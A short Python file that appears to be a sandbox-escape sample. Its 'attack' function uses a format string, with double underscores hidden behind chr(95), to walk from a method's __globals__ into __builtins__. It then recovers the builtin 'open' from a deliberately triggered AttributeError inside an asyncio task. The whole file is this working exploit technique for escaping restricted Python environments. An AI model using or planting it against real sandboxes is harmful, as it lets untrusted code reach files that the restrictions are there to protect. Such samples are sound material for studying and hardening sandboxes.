# gained: function open
import asyncio
from typing import Any


class Own:
    obj: Any = None

    def go(self) -> None:
        return None


async def fail(template: str, value: Any) -> None:
    template.format(value)


async def waited(template: str, value: Any) -> Any:
    task = asyncio.create_task(fail(template, value))
    await asyncio.wait([task])
    return task.exception().obj


def read(template: str, value: Any) -> Any:
    return asyncio.run(waited(template, value))


def attack(path: str) -> Any:
    under = chr(95) * 2
    table = ["{0.go.%(u)sglobals%(u)s[%(u)sbuiltins%(u)s][open].nothing}" % {"u": under}]
    return read(table[0], Own())
